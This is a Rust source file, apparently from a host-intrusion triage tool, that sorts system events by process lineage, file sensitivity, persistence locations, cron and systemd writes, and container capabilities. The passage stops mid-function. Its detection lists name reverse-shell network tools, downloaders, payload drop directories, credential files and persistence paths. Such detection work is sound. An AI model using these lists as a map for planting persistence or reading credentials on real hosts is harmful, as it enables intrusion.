//! Facts about one event: who acted (lineage), what it touched (target sensitivity),
//! and what kind of action an event is (for session context).

use std::net::IpAddr;

use quell_events::FlatEvent;
use serde::Serialize;

use crate::cluster::target;
use crate::input::{int, text};

/// How many ancestor levels are looked at.
pub const MAX_ANCESTORS: usize = 12;

pub(crate) use quell_events::ancestor_key;

/// How many ancestor levels are checked for a dropped binary.
pub const MAX_DROP_LEVEL: usize = 4;

/// Shells.
pub const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "csh", "tcsh", "fish", "busybox",
];
/// Servers whose children are not expected to be shells.
pub const SERVICES: &[&str] = &[
    "httpd",
    "nginx",
    "apache2",
    "lighttpd",
    "php-fpm",
    "php-fpm8.2",
    "php-cgi",
    "tomcat",
    "catalina.sh",
    "gunicorn",
    "uwsgi",
    "puma",
    "unicorn",
    "caddy",
    "traefik",
    "envoy",
    "python3-web",
    "postgres",
    "mysqld",
    "mariadbd",
    "mongod",
    "redis-server",
    "memcached",
    "rabbitmq-server",
    "beam.smp",
    "elasticsearch",
];
/// Ways a person logs in or attaches to a terminal.
pub const LOGIN_ENTRIES: &[&str] = &[
    "sshd",
    "sshd-session",
    "login",
    "agetty",
    "getty",
    "mingetty",
    "tmux: server",
    "tmux",
    "screen",
    "SCREEN",
    "mosh-server",
    "script",
    "xterm",
    "gnome-terminal-",
    "konsole",
    // Desktop terminal emulators: the program that opens a terminal and runs the person's
    // shell in it, as xterm does (their process names, cut to 15 bytes as the kernel
    // keeps them).
    "xfce4-terminal",
    "mate-terminal",
    "lxterminal",
    "qterminal",
    "kitty",
    "alacritty",
    "wezterm-gui",
    "footclient",
    "foot",
    "tilix",
    "terminator",
    "kgx",
    "ptyxis-agent",
    "ghostty",
    "urxvt",
    "rxvt",
    "sakura",
    "terminology",
    "guake",
    "tilda",
    "yakuake",
    "deepin-terminal",
    "cool-retro-term",
    // Remote terminal gateways: an SSH server, a browser or a fleet agent's terminal.
    "dropbear",
    "ttyd",
    "gotty",
    "shellinaboxd",
    "cockpit-session",
    "cockpit-bridge",
    "teleport",
    "tmate",
    "ssm-session-wor",
    "etserver",
    "etterminal",
    "mender-connect",
];
/// The runtime processes a shell `exec`'d into a container has for its parent, whichever
/// runtime the node runs (containerd's shim, CRI-O's and Podman's conmon, the OCI
/// runtimes): one lineage shape, "entered through the runtime". A subset of [`RUNTIMES`].
pub const RUNTIME_SHIMS: &[&str] = &[
    "containerd-shim",
    "containerd-shim-runc-v2",
    "conmon",
    "runc",
    "crun",
];
/// Container runtimes through which `exec` sessions are entered (the [`RUNTIME_SHIMS`]
/// and the clients that ask them).
pub const RUNTIMES: &[&str] = &[
    "runc",
    "crun",
    "containerd-shim",
    "containerd-shim-runc-v2",
    "conmon",
    "docker",
    "kubectl",
    "crictl",
    "nerdctl",
    "podman",
];
/// Schedulers: their children are jobs, not people.
pub const SCHEDULERS: &[&str] = &["cron", "crond", "CRON", "anacron", "atd", "systemd-timer"];
/// Package managers.
pub const PACKAGE_MANAGERS: &[&str] = &[
    "dpkg",
    "apt",
    "apt-get",
    "aptitude",
    "unattended-upgr",
    "dpkg-preconfigu",
    "yum",
    "dnf",
    "rpm",
    "microdnf",
    "apk",
    "zypper",
    "pacman",
    "snapd",
];
/// Interpreters: the script, not the interpreter, is the actor.
pub const INTERPRETERS: &[&str] = &[
    "python", "python2", "python3", "perl", "ruby", "php", "node", "java", "lua", "Rscript",
];
/// CI runners.
pub const CI_RUNNERS: &[&str] = &[
    "gitlab-runner",
    "Runner.Worker",
    "Runner.Listener",
    "act_runner",
    "drone-runner-do",
    "buildkitd",
    "buildkit-runc",
    "jenkins-agent",
    "agent.jar",
];
/// Build tools.
pub const BUILD_TOOLS: &[&str] = &[
    "make", "gmake", "cmake", "ninja", "cargo", "rustc", "go", "gcc", "cc", "g++", "clang", "mvn",
    "gradle", "bazel", "meson",
];
/// Process managers at the root of every tree.
pub const INITS: &[&str] = &["systemd", "init", "tini", "dumb-init", "s6-svscan", "runsv"];
/// Network tools whose connections are a reverse shell's or a tunnel's.
pub const NET_TOOLS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "nc.openbsd",
    "nc.traditional",
];
/// Accounts services run as: never a person at a terminal.
pub const SYSTEM_ACCOUNTS: &[&str] = &[
    "www-data",
    "nobody",
    "apache",
    "nginx",
    "http",
    "daemon",
    "bin",
    "sys",
    "mail",
    "postgres",
    "mysql",
    "redis",
    "tomcat",
    "jenkins",
    "git",
    "nfsnobody",
    "_www",
    "node",
    "elasticsearch",
];
/// Server ports ordinary clients connect to (web, mail, DNS, SSH, databases, object stores,
/// monitoring): a connection to one by a non-shell client is not weighed.
pub const COMMON_PORTS: &[u16] = &[
    21, 22, 25, 53, 80, 88, 123, 389, 443, 465, 587, 636, 873, 993, 995, 2049, 2379, 3000, 3306,
    5432, 5671, 5672, 6379, 6443, 8080, 8086, 8125, 8200, 8443, 8500, 9000, 9090, 9091, 9092, 9093,
    9100, 9200, 9300, 11211, 27017,
];
/// Ports of remote-administration services (telnet, Microsoft RPC, NetBIOS, SMB, RDP, VNC,
/// WinRM, MikroTik's Winbox): a program connecting to one on another host is taking that
/// host over, not using a service of it. SSH (22) is not here: backups, Git and file
/// transfer use it as a transport. Nor is a container runtime's or a kubelet's API: CI
/// jobs reach a Docker daemon and metrics scrapers the kubelet by design.
pub const REMOTE_ADMIN_PORTS: &[u16] = &[23, 135, 139, 445, 3389, 5900, 5985, 5986, 8291];

/// The remote-administration port ([`REMOTE_ADMIN_PORTS`]) a connection's server listens
/// on, if it is one.
pub fn remote_admin_port(ev: &FlatEvent) -> Option<u16> {
    if text(ev, "evt.type").as_deref() != Some("connect") {
        return None;
    }
    server_port(ev).filter(|p| REMOTE_ADMIN_PORTS.contains(p))
}

/// Download tools.
pub const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "aria2c",
    "tftp",
    "ftp",
    "scp",
    "sftp",
    "rsync",
    "lwp-download",
];
/// Directories a dropped payload lives in.
pub const DROP_DIRS: &[&str] = &["/tmp/", "/dev/shm/", "/var/tmp/", "/run/shm/", "memfd:"];

/// Whether a path is in a drop directory (or memfd).
pub fn in_drop_dir(p: &str) -> bool {
    DROP_DIRS.iter().any(|d| p.starts_with(d))
}

/// How sensitive a target is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Sensitivity {
    /// Housekeeping files (a package manager's log, rotated archives).
    Low,
    /// Ordinary application or system logs and files.
    Medium,
    /// Authentication and audit records, shell history, credentials.
    High,
    /// Where an intruder persists: shell start-up files, cron, systemd units, the
    /// dynamic loader's preload list, init scripts.
    Persistence,
}

/// Whether a path is a persistence location.
pub fn is_persistence(path: &str) -> bool {
    let base = path.rsplit('/').next().unwrap_or(path);
    const NAMES: &[&str] = &[
        ".bashrc",
        ".bash_profile",
        ".bash_login",
        ".profile",
        ".zshrc",
        ".zprofile",
        ".zshenv",
        ".bash_logout",
        ".cshrc",
        ".tcshrc",
        ".kshrc",
        "ld.so.preload",
        "rc.local",
        "crontab",
        "bash.bashrc",
        "profile",
        "environment",
        // The system-wide start-up files of bash on Red Hat, SUSE and Arch, of zsh and of
        // the C shells, and a login's own csh and zsh files; fish's configuration.
        "bashrc",
        "zshrc",
        "zprofile",
        "zshenv",
        "zlogin",
        "zlogout",
        ".zlogin",
        ".zlogout",
        "csh.cshrc",
        "csh.login",
        ".login",
        ".logout",
        "config.fish",
    ];
    const PARTS: &[&str] = &[
        "/etc/cron",
        "/var/spool/cron/",
        "/etc/systemd/system/",
        "/usr/lib/systemd/system/",
        "/lib/systemd/system/",
        "/.config/systemd/user/",
        "/etc/profile.d/",
        "/etc/zsh/",
        "/etc/fish/conf.d/",
        "/.config/fish/conf.d/",
        "/etc/init.d/",
        "/etc/rc.d/",
        "/etc/xdg/autostart/",
        "/.config/autostart/",
        "/etc/update-motd.d/",
    ];
    (NAMES.contains(&base)
        && (path.starts_with("/etc/")
            || path.starts_with("/root/")
            || path.starts_with("/home/")
            || !path.starts_with('/')))
        || PARTS.iter().any(|p| path.contains(p))
}

/// Whether writing a path plants persistence: a [`is_persistence`] location, or an SSH
/// `authorized_keys` file (a key that logs the intruder back in).
pub fn persists(path: &str) -> bool {
    let base = path.rsplit('/').next().unwrap_or(path);
    is_persistence(path)
        || (matches!(base, "authorized_keys" | "authorized_keys2") && path.contains("/.ssh/"))
}

/// Whether an open event opened its file for writing (`evt.is_open_write`, or `O_WRONLY`
/// / `O_RDWR` in its flags).
pub(crate) fn opened_for_write(ev: &impl crate::input::Fields) -> bool {
    matches!(
        ev.value("evt.is_open_write"),
        Some(quell_rules::Value::Bool(true))
    ) || ev
        .value("evt.arg.flags")
        .as_ref()
        .and_then(crate::input::value_text)
        .is_some_and(|f| f.contains("O_WRONLY") || f.contains("O_RDWR"))
}

/// Whether the event writes its target: an open for writing, a creation, a rename or a
/// link onto it.
pub fn writes_target(ev: &FlatEvent) -> bool {
    match text(ev, "evt.type").as_deref() {
        Some("open" | "openat" | "openat2") => opened_for_write(ev),
        Some(t) => {
            t == "creat"
                || t.starts_with("rename")
                || t.starts_with("link")
                || t.starts_with("symlink")
        }
        None => false,
    }
}

/// Whether `program` writes the persistence file `path` every time it runs, by design: the
/// account tools copy the skeleton's shell start-up files into a new home (`useradd -m`).
/// The content is the system's skeleton, not the writer's; the account creation itself is
/// what the rules flag.
pub fn writes_by_design(program: &str, path: &str) -> bool {
    const ACCOUNT_TOOLS: &[&str] = &["useradd", "adduser", "newusers"];
    let base = path.rsplit('/').next().unwrap_or(path);
    ACCOUNT_TOOLS.contains(&program)
        && (path.starts_with("/home/") || path.starts_with("/root/"))
        && base.starts_with('.')
        && !matches!(base, "authorized_keys" | "authorized_keys2")
        && !path.contains("/.ssh/")
        && !path.contains("/.config/")
}

/// Classifies a target path.
pub fn sensitivity(path: &str) -> Sensitivity {
    let base = path.rsplit('/').next().unwrap_or(path);
    const HIGH_NAMES: &[&str] = &[
        "auth.log",
        "secure",
        "wtmp",
        "btmp",
        "lastlog",
        "faillog",
        "sudo.log",
        "shadow",
        "gshadow",
        "sudoers",
        "doas.conf",
        "passwd",
        "authorized_keys",
        "credentials",
        "audit.log",
    ];
    const HIGH_PARTS: &[&str] = &[
        "/var/log/audit/",
        "/.ssh/",
        "/var/log/journal/",
        "/.aws/",
        "/.kube/",
    ];
    const LOW_NAMES: &[&str] = &[
        "dpkg.log",
        "alternatives.log",
        "bootstrap.log",
        "yum.log",
        "dnf.log",
        "dnf.rpm.log",
        "dnf.librepo.log",
        "hawkey.log",
        "apk.log",
        "pacman.log",
        "cloud-init-output.log",
        "fontconfig.log",
    ];
    const LOW_PARTS: &[&str] = &[
        "/var/log/apt/",
        "/var/log/installer/",
        "/var/cache/",
        "/var/lib/apt/",
    ];
    // A shell's or a client's history (`.bash_history`, `.psql_history`, `fish_history`)
    // by its name's end: a media file named `oral_history_1987.mp4` is no history (session
    // 25: an upload's name made a web application's write a cleared security record).
    let history = base.ends_with("_history") || base == ".history";
    if HIGH_NAMES.contains(&base) || history || HIGH_PARTS.iter().any(|p| path.contains(p)) {
        return Sensitivity::High;
    }
    if is_persistence(path) {
        return Sensitivity::Persistence;
    }
    let rotated = base.ends_with(".gz")
        || base.ends_with(".xz")
        || base.ends_with(".old")
        || base
            .rsplit('.')
            .next()
            .is_some_and(|s| !s.is_empty() && s.chars().all(|c| c.is_ascii_digit()));
    if LOW_NAMES.contains(&base) || LOW_PARTS.iter().any(|p| path.contains(p)) || rotated {
        return Sensitivity::Low;
    }
    Sensitivity::Medium
}

/// The process and its ancestors: (level, name, exepath). Level 0 is the process.
pub fn lineage(ev: &FlatEvent) -> Vec<(usize, String, Option<String>)> {
    let mut out = Vec::new();
    if let Some(n) = text(ev, "proc.name") {
        out.push((0, n, text(ev, "proc.exepath")));
    }
    for level in 1..=MAX_ANCESTORS {
        let name = text(ev, &ancestor_key("proc.aname", level)).or_else(|| {
            if level == 1 {
                text(ev, "proc.pname")
            } else {
                None
            }
        });
        let exe = text(ev, &ancestor_key("proc.aexepath", level)).or_else(|| {
            if level == 1 {
                text(ev, "proc.pexepath")
            } else {
                None
            }
        });
        match name {
            // The capture process is not part of the watched tree.
            Some(n) if n == "quell" => break,
            Some(n) => out.push((level, n, exe)),
            None if level == 1 => continue,
            None => break,
        }
    }
    out
}

/// What part a process plays in a lineage.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Role {
    /// A shell.
    Shell,
    /// A network service (web server, database...).
    Service,
    /// A container runtime (an `exec` entry).
    Runtime,
    /// A login or terminal entry (sshd, login, tmux...).
    Login,
    /// A job scheduler (cron, atd...).
    Scheduler,
    /// A package manager.
    PackageManager,
    /// An interpreter (python, perl, node...).
    Interpreter,
    /// A CI runner.
    CiRunner,
    /// A build tool or compiler.
    Build,
    /// A privilege change (sudo, su).
    Privilege,
    /// An init or process supervisor.
    Init,
    /// Anything else.
    Other,
}

impl Role {
    /// A short word for the role.
    pub fn as_str(self) -> &'static str {
        match self {
            Role::Shell => "shell",
            Role::Service => "service",
            Role::Runtime => "runtime",
            Role::Login => "login",
            Role::Scheduler => "scheduler",
            Role::PackageManager => "pkg",
            Role::Interpreter => "interp",
            Role::CiRunner => "ci",
            Role::Build => "build",
            Role::Privilege => "priv",
            Role::Init => "init",
            Role::Other => "other",
        }
    }
}

/// The role of a process name.
pub fn role(name: &str) -> Role {
    let n = name;
    if SHELLS.contains(&n) {
        Role::Shell
    } else if SERVICES.contains(&n) {
        Role::Service
    } else if RUNTIMES.iter().any(|r| n.starts_with(r)) {
        Role::Runtime
    } else if LOGIN_ENTRIES.contains(&n) {
        Role::Login
    } else if SCHEDULERS.contains(&n) {
        Role::Scheduler
    } else if PACKAGE_MANAGERS.contains(&n) {
        Role::PackageManager
    } else if CI_RUNNERS.contains(&n) {
        Role::CiRunner
    } else if BUILD_TOOLS.contains(&n) {
        Role::Build
    } else if n == "sudo" || n == "su" || n == "doas" || n == "runuser" {
        Role::Privilege
    } else if INITS.contains(&n) {
        Role::Init
    } else if INTERPRETERS.contains(&n)
        || n.starts_with("python")
        || n.starts_with("php")
        || n.starts_with("perl")
        || n.starts_with("ruby")
    {
        Role::Interpreter
    } else {
        Role::Other
    }
}

/// The lineage shape of an event: the roles of its ancestors, nearest first, with unknown
/// programs left out, repeats collapsed and at most 4 roles (`shell<login`, `shell<service`,
/// `shell<runtime`). The process itself is not part of it (it is the actor).
pub fn shape(ev: &FlatEvent) -> String {
    let mut roles: Vec<Role> = Vec::new();
    for (level, name, _) in lineage(ev) {
        if level == 0 {
            continue;
        }
        let r = role(&name);
        if r == Role::Other || roles.last() == Some(&r) {
            continue;
        }
        roles.push(r);
        if roles.len() == 4 || matches!(r, Role::Init | Role::Runtime) {
            break;
        }
    }
    if roles.is_empty() {
        return "?".into();
    }
    roles
        .iter()
        .map(|r| r.as_str())
        .collect::<Vec<_>>()
        .join("<")
}

/// Who acted, as the triage sees it.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Actor {
    /// A controlling terminal (`proc.tty` not 0).
    pub tty: bool,
    /// A login or terminal entry (sshd, login, tmux...) among the ancestors, by name.
    pub entry: Option<String>,
    /// A container runtime among the ancestors (an `exec` session), by name.
    pub runtime: Option<String>,
    /// A service among the ancestors, by name.
    pub service: Option<String>,
    /// A server among the ancestors with a shell between it and the process: (server, shell).
    pub service_shell: Option<(String, String)>,
    /// The process or an ancestor runs from a drop directory or memfd, or was written
    /// after its container started: (level, path).
    pub dropped_exe: Option<(usize, String)>,
    /// The name of the process that started the dropped executable (its parent), if known.
    pub dropped_parent: Option<String>,
    /// A system account (a service's user) runs the process: its name or uid.
    pub system_account: Option<String>,
    /// The process's standard input or output is a network connection (a reverse shell).
    pub network_stdio: Option<String>,
    /// A scheduler (cron, atd) among the ancestors, by name.
    pub scheduler: Option<String>,
}

impl Actor {
    /// A person at a terminal, on the process's own facts: a tty together with a login or
    /// runtime `exec` entry, no service in the lineage, no system account, no network
    /// stdin/stdout and no dropped binary. (Session facts, such as a download, cancel it
    /// further in triage.)
    pub fn interactive(&self) -> bool {
        self.tty
            && (self.entry.is_some() || self.runtime.is_some())
            && self.service.is_none()
            && self.service_shell.is_none()
            && self.system_account.is_none()
            && self.network_stdio.is_none()
            && self.dropped_exe.is_none()
            && self.scheduler.is_none()
    }
}

/// Whether nobody entered the process's session (issue 11: evidence an intruder at a
/// terminal cannot produce): no controlling terminal, no login entry, and a scheduler, a
/// service, an init or a CI runner started it, below any container runtime (a runtime
/// alone may be an `exec` entry: `kubectl exec pod -- apk add nmap` has no tty either).
pub fn unattended(ev: &FlatEvent) -> bool {
    launched_before_entry(
        ev,
        &[Role::Login, Role::Runtime],
        &[Role::Scheduler, Role::Service, Role::Init, Role::CiRunner],
    )
    .is_some()
}

/// Walking up the lineage of a process with no controlling terminal: the first of
/// `launchers` that comes before any of `entries`, by name (none when neither comes, or
/// with a tty).
fn launched_before_entry(ev: &FlatEvent, entries: &[Role], launchers: &[Role]) -> Option<String> {
    if int(ev, "proc.tty").is_some_and(|t| t != 0) {
        return None;
    }
    for (level, name, _) in lineage(ev) {
        if level == 0 {
            continue;
        }
        let r = role(&name);
        if entries.contains(&r) {
            return None;
        }
        if launchers.contains(&r) {
            return Some(name);
        }
    }
    None
}

/// Whether the process is a job nobody entered and no service runs: no controlling
/// terminal, and walking up its lineage a scheduler, an init or a CI runner comes before
/// any login, container runtime or service (a cron job, an agent started by init). Narrower
/// than [`unattended`]: a service's own child (which a web shell is) is not a job.
pub fn scheduled_job(ev: &FlatEvent) -> bool {
    launched_before_entry(
        ev,
        &[Role::Login, Role::Runtime, Role::Service],
        &[Role::Scheduler, Role::Init, Role::CiRunner],
    )
    .is_some()
}

/// The scheduler or CI runner that launched a [`scheduled_job`], by name. Narrower than
/// [`scheduled_job`]: init is left out, because any process whose parent exited is
/// re-parented to init (`setsid cmd &` from an intruder's shell looks like an agent
/// started by init).
pub fn job_launcher(ev: &FlatEvent) -> Option<String> {
    launched_before_entry(
        ev,
        &[
            Role::Login,
            Role::Runtime,
            Role::Service,
            Role::Init,
            Role::Scheduler,
        ],
        &[Role::CiRunner],
    )
}

/// The service manager (init) that launched a process nobody entered, by name: no
/// controlling terminal, and walking up its lineage init comes before any login, runtime,
/// service, scheduler or CI runner (a unit's or a timer's own process tree: `shred <
/// find < systemd`). Narrower than [`unattended`]: a scheduler's and a CI runner's jobs
/// have their own tests ([`job_launcher`], `triage`'s quiet cron job). Alone it is no
/// evidence of anything: a process whose parent exited is re-parented to init as well
/// (`setsid cmd &`); `triage` weighs it only when the same act recurs in separate quiet
/// sessions (`job_recurs`).
pub fn init_launcher(ev: &FlatEvent) -> Option<String> {
    launched_before_entry(
        ev,
        &[
            Role::Login,
            Role::Runtime,
            Role::Service,
            Role::Scheduler,
            Role::CiRunner,
        ],
        &[Role::Init],
    )
}

/// The client's address of an `accept` whose client is outside the site (see
/// [`is_inside`]), whatever program accepts: the process then works for somebody outside
/// (a daemon answering the internet), which is not work nobody entered.
pub fn accepted_from_outside(ev: &FlatEvent) -> Option<String> {
    let ty = text(ev, "evt.type")?;
    if !matches!(ty.as_str(), "accept" | "accept4") {
        return None;
    }
    let ip: IpAddr = match ev.get("fd.cip") {
        Some(quell_rules::Value::Ip(ip)) => *ip,
        _ => text(ev, "fd.cip")?.parse().ok()?,
    };
    (!is_inside(&ip)).then(|| ip.to_string())
}

// ---- Work nobody entered (helper "unattended", session 7): a container workload's own
// process tree, a scheduler's job with its forgeries closed. Lineage shape only: no tool
// names of the corpus.

/// The host processes a container's init is started under: the runtime's shim or monitor,
/// which stays the parent of the container's pid 1. An `exec` session enters through the
/// runtime command instead (`runc exec`, `crun exec`, `docker exec`, `kubectl exec`: the
/// other [`RUNTIMES`]).
pub const CONTAINER_SUPERVISORS: &[&str] = &["containerd-shim", "conmon"];

fn is_supervisor(name: &str) -> bool {
    CONTAINER_SUPERVISORS.iter().any(|s| name.starts_with(s))
}

/// A process of a container's own workload, entered by nobody: in a container, no
/// controlling terminal, and either the process is the container's init (`proc.vpid` 1,
/// what a real capture records for the entrypoint) or walking up its lineage every
/// ancestor is a shell or an init (tini) up to the topmost process in the container, which
/// is itself a shell or an init whose parent is the runtime's supervisor
/// ([`CONTAINER_SUPERVISORS`]) with no runtime `exec` command, login, service, scheduler,
/// interpreter or other program in between (a web application or a notebook kernel running
/// a shell is not the entrypoint's own script). Returns (level of that topmost process,
/// its name, its host pid when the event carries it). The process itself as the init is
/// accepted only when it is not an interpreter or a service (code run inside a web
/// application is the application's process).
///
/// The caller must refute the topmost process with what quell saw: an exec'd process whose
/// `runc exec` exited is re-parented to the shim and has the same names above it; its own
/// events carry `proc.vpid` other than 1 (see [`WorkloadInit::pid`]).
pub fn workload_init(ev: &FlatEvent) -> Option<WorkloadInit> {
    let in_container = text(ev, "container.id").is_some_and(|c| !c.is_empty() && c != "host");
    if !in_container || int(ev, "proc.tty").is_some_and(|t| t != 0) || reaches_the_host(ev) {
        return None;
    }
    let lin = lineage(ev);
    let (_, own, _) = lin.first()?;
    if int(ev, "proc.vpid") == Some(1) {
        return match role(own) {
            Role::Interpreter | Role::Service => None,
            _ => Some(WorkloadInit {
                level: 0,
                name: own.clone(),
                pid: int(ev, "proc.pid"),
            }),
        };
    }
    for (i, (level, name, _)) in lin.iter().enumerate().skip(1) {
        if is_supervisor(name) {
            // The topmost process in the container is the one below the supervisor; the
            // process itself there (not pid 1) is an exec'd one.
            let top = i.checked_sub(1).filter(|t| *t > 0)?;
            let (tl, tn, _) = &lin[top];
            let pid = int(ev, &ancestor_key("proc.apid", *tl))
                .or_else(|| (*tl == 1).then(|| int(ev, "proc.ppid")).flatten());
            let _ = level;
            return Some(WorkloadInit {
                level: *tl,
                name: tn.clone(),
                pid,
            });
        }
        if !matches!(role(name), Role::Shell | Role::Init) {
            return None;
        }
    }
    None
}

/// Capabilities that let a container's process reach the host (mount its disks, load
/// modules, trace or enter other processes, read any file): beyond the runtimes' default
/// set.
pub const HOST_REACHING_CAPS: &[&str] = &[
    "CAP_SYS_ADMIN",
    "CAP_SYS_MODULE",
    "CAP_SYS_PTRACE",
    "CAP_SYS_RAWIO",
    "CAP_DAC_READ_SEARCH",
    "CAP_BPF",
    "CAP_PERFMON",
    "CAP_NET_ADMIN",
    "CAP_SYS_BOOT",
    "CAP_MAC_ADMIN",
];

/// Whether the process's container can reach the host: privileged
/// (`container.privileged`), or its process holds a capability of
/// [`HOST_REACHING_CAPS`]. A workload whose own entrypoint is the escape (an attacker with
/// the right to create pods starts a privileged one that mounts the node's disk) needs
/// nobody to enter it: its own work is no evidence of a false positive.
pub fn reaches_the_host(ev: &FlatEvent) -> bool {
    let privileged = matches!(
        ev.get("container.privileged"),
        Some(quell_rules::Value::Bool(true))
    ) || text(ev, "container.privileged").is_some_and(|p| p == "true");
    let caps = text(ev, "thread.cap_effective").unwrap_or_default();
    privileged
        || caps
            .split_whitespace()
            .any(|c| HOST_REACHING_CAPS.contains(&c))
}

/// The topmost process of a container workload's own tree (see [`workload_init`]).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct WorkloadInit {
    /// Its lineage level (0: the process itself).
    pub level: usize,
    /// Its name.
    pub name: String,
    /// Its host pid, when the event carries it (`proc.apid[N]`): quell's own events of
    /// that process tell whether it is the container's pid 1.
    pub pid: Option<i64>,
}

/// The scheduler (cron, atd, a timer) that launched the process, by name: no controlling
/// terminal, and walking up the lineage a scheduler comes before any login, container
/// runtime, service, init or CI runner. Only the lineage: the caller closes the forgeries
/// (a schedule entry written in the capture, a job running a dropped script, a session that
/// reaches outside the site).
pub fn scheduler_launcher(ev: &FlatEvent) -> Option<String> {
    launched_before_entry(
        ev,
        &[
            Role::Login,
            Role::Runtime,
            Role::Service,
            Role::Init,
            Role::CiRunner,
        ],
        &[Role::Scheduler],
    )
}

/// Whether a path is a scheduler's entry: a crontab, a cron directory, an `at` or
/// anacron spool, or a systemd unit (system or user): what makes a later job run that
/// nobody entered a session for. (systemd timers start their jobs from init, which is
/// never a launcher here: see [`scheduler_launcher`]; their units still count as written
/// schedule entries.)
pub fn is_schedule_entry(path: &str) -> bool {
    const PREFIXES: &[&str] = &[
        "/etc/cron.",
        "/etc/crontab",
        "/var/spool/cron/",
        "/var/spool/at",
        "/var/spool/anacron/",
        "/etc/anacrontab",
        "/etc/systemd/system/",
        "/usr/lib/systemd/system/",
        "/lib/systemd/system/",
    ];
    let base = path.rsplit('/').next().unwrap_or(path);
    PREFIXES.iter().any(|p| path.starts_with(p))
        || path.contains("/.config/systemd/user/")
        || base == "crontab"
}

/// Whether the event writes a schedule entry: an open for writing, a rename, a link or a
/// symlink onto one, or `crontab` run to install a table (anything but `-l`). Returns the
/// entry (or the command).
pub fn schedule_write(ev: &FlatEvent) -> Option<String> {
    let ty = text(ev, "evt.type")?;
    let flag = |k: &str| matches!(ev.get(k), Some(quell_rules::Value::Bool(true)));
    match ty.as_str() {
        "open" | "openat" | "openat2" => {
            let path = text(ev, "fd.name")?;
            let write = flag("evt.is_open_write")
                || text(ev, "evt.arg.flags")
                    .is_some_and(|f| f.contains("O_WRONLY") || f.contains("O_RDWR"));
            (write && is_schedule_entry(&path)).then_some(path)
        }
        "rename" | "renameat" | "renameat2" | "link" | "linkat" | "symlink" | "symlinkat" => {
            ["evt.arg.newpath", "evt.arg.linkpath", "fs.path.target"]
                .iter()
                .filter_map(|k| text(ev, k))
                .find(|p| is_schedule_entry(p))
        }
        _ if is_exec(ev) => {
            let name = text(ev, "proc.name")?;
            let cmd = text(ev, "proc.cmdline").unwrap_or_default();
            let lists = cmd.split_whitespace().skip(1).any(|w| w == "-l");
            (name == "crontab" && !lists).then_some(cmd)
        }
        _ => None,
    }
}

/// Whose jobs a written schedule entry can start (issue 11, session 15). A job scheduler
/// starts a job from its own tables only, and an account's own table runs that account's
/// jobs only, so a schedule change refutes "a job nobody entered" only for the jobs it can
/// have started (the blind holdout15 had every cron job of a host lose its anchor to a
/// configuration tool installing a service account's crontab).
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ScheduleScope {
    /// A systemd unit: the service manager starts it (a timer's job), never a job
    /// scheduler.
    Unit,
    /// One account's own table (`crontab -u NAME`, `crontab FILE` as NAME, or
    /// `/var/spool/cron/{crontabs/,tabs/,}NAME`): its jobs run as NAME.
    User(String),
    /// A system table (`/etc/crontab`, `/etc/cron.d/`, the `cron.daily`... directories,
    /// anacron's table, the `at` spool) or a table whose owner is not known: jobs as
    /// anybody.
    Any,
}

/// The scope of the schedule entry `entry` (a path, or `crontab`'s command line) that the
/// event `ev` writes ([`schedule_write`]).
pub fn schedule_scope(ev: &FlatEvent, entry: &str) -> ScheduleScope {
    if entry.starts_with('/')
        && (entry.contains("/systemd/system/") || entry.contains("/.config/systemd/user/"))
    {
        return ScheduleScope::Unit;
    }
    // The crontab program installs one account's table: `-u NAME`, else its own user's.
    if text(ev, "proc.name").as_deref() == Some("crontab") {
        let cmd = text(ev, "proc.cmdline").unwrap_or_default();
        let words: Vec<&str> = cmd.split_whitespace().collect();
        let named = words
            .iter()
            .position(|w| *w == "-u")
            .and_then(|i| words.get(i + 1).copied())
            .or_else(|| {
                words
                    .iter()
                    .find_map(|w| w.strip_prefix("-u").filter(|u| !u.is_empty()))
            });
        let owner = match named {
            Some(u) => Some(u.to_string()),
            None => text(ev, "user.name"),
        };
        return match owner {
            Some(u) if crate::kinds::is_account_name(&u) => ScheduleScope::User(u),
            _ => ScheduleScope::Any,
        };
    }
    // A file of an account's spool, named after the account (not a temporary file of
    // the program that writes it).
    let spool_name = [
        "/var/spool/cron/crontabs/",
        "/var/spool/cron/tabs/",
        "/var/spool/cron/",
    ]
    .iter()
    .find_map(|d| entry.strip_prefix(d))
    .filter(|n| !n.contains('/'));
    match spool_name {
        Some(n) if crate::kinds::is_account_name(n) && !n.starts_with("tmp") => {
            ScheduleScope::User(n.to_string())
        }
        _ => ScheduleScope::Any,
    }
}

/// Whether a schedule entry of `scope` can have started the job whose event is `job`: a
/// system table starts anybody's; an account's table only jobs that run as that account,
/// or whose lineage changes user on the way (`sudo`, `su`, `runuser`...); a unit any job
/// but one a job scheduler (cron, anacron, atd) started.
pub fn schedule_reaches(scope: &ScheduleScope, job: &FlatEvent) -> bool {
    match scope {
        ScheduleScope::Unit => !lineage(job)
            .iter()
            .any(|(_, n, _)| role(n) == Role::Scheduler),
        ScheduleScope::Any => true,
        ScheduleScope::User(u) => {
            lineage(job).iter().any(|(_, n, _)| changes_user(n))
                || text(job, "user.name").is_none_or(|j| j == *u)
        }
    }
}

/// Whether a program runs what it is given as another user: the privilege tools
/// ([`Role::Privilege`]) and the launchers that drop or switch identity (`setpriv`,
/// `gosu`, `su-exec`, `chpst`, `setuidgid`...).
fn changes_user(name: &str) -> bool {
    role(name) == Role::Privilege
        || matches!(
            name,
            "pkexec"
                | "sudoedit"
                | "setpriv"
                | "gosu"
                | "su-exec"
                | "chpst"
                | "setuidgid"
                | "s6-setuidgid"
        )
}

/// The dropped script or program a job runs, if any: in the process's and its parent's
/// command lines, a program in command position of a `sh -c` string, or the script a
/// shell or interpreter runs, that lives in a drop directory ([`DROP_DIRS`]). A job's
/// *output* in /tmp (`tar czf /tmp/x.tgz`) is not one.
pub fn job_runs_dropped(ev: &FlatEvent) -> Option<String> {
    let check = |name: Option<String>, cmd: Option<String>| -> Option<String> {
        let name = name?;
        let cmd = cmd?;
        let r = role(&name);
        if r != Role::Shell && r != Role::Interpreter {
